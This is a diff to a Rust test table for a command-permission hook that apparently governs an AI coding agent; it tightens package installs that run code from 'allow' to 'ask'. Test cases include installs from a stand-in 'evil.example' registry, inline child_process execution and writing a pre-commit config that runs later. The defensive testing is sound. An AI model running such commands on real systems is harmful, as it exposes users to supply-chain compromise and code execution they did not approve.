@@ -129,7 +129,7 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     ("ask", "ask", "shell.dynamic-command", "npm install && $CMD"),
     ("ask", "ask", "unknown.command", "mkdir build; frobnicate"),
     // Relaxable: understood, so autonomy auto lets it run.
-    ("ask", "allow", "pkg.install", "npm install"),
+    ("ask", "ask", "pkg.install-runs-code", "npm install"),
     // Contained: project code the hook cannot read; asked in auto, run in auto when the
     // call runs in Claude Code's sandbox (see `contained_calls_run_in_the_sandbox`).
     ("ask", "ask", "build.run", "cargo test"),
@@ -161,7 +161,7 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     ("ask", "allow", "proc.signal", "kill 1234"),
     // Code in other languages read in full: its effects decide.
     ("ask", "allow", "file.write", "python3 -c 'open(\"out.txt\", \"w\").write(\"x\")'"),
-    ("ask", "allow", "pkg.install", "node -e 'require(\"child_process\").execSync(\"npm install\")'"),
+    ("ask", "ask", "pkg.install-runs-code", "node -e 'require(\"child_process\").execSync(\"npm install\")'"),
     ("ask", "allow", "fs.change", "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"tmp/cache\")'"),
     ("allow", "allow", "code.judged", "python3 -c 'import json; print(json.load(open(\"package.json\"))[\"version\"])'"),
     ("allow", "allow", "code.judged", "node -p 'require(\"./package.json\").version'"),
@@ -311,8 +311,8 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     ("ask", "ask", "pkg.install-source-option", "npm i --registry evil.example x"),
     ("ask", "ask", "pkg.install-pip-index", "pip install -i evil.example/simple x"),
     ("ask", "ask", "pkg.third-party-source", "brew tap someone/tools"),
-    ("ask", "allow", "pkg.install", "npm i @scope/name"),
-    ("ask", "allow", "pkg.install", "pip install -e ."),
+    ("ask", "ask", "pkg.install-runs-code", "npm i @scope/name"),
+    ("ask", "ask", "pkg.install-runs-code", "pip install -e ."),
     ("ask", "allow", "pkg.install", "cargo install ripgrep"),
     // Writing a file another program runs later, or the agent reads as instructions.
     ("ask", "ask", "file.write-runs-later", "echo 'repos: []' > .pre-commit-config.yaml"),
@@ -1074,6 +1074,7 @@ fn every_default_confirm_rule_is_classified() {
         "test.list",
         "test.list-command",
         "build.check-code",
+        "pkg.install-runs-code",
         "test.list-script",
         "build.terraform-validate",
         "run.inline-code",
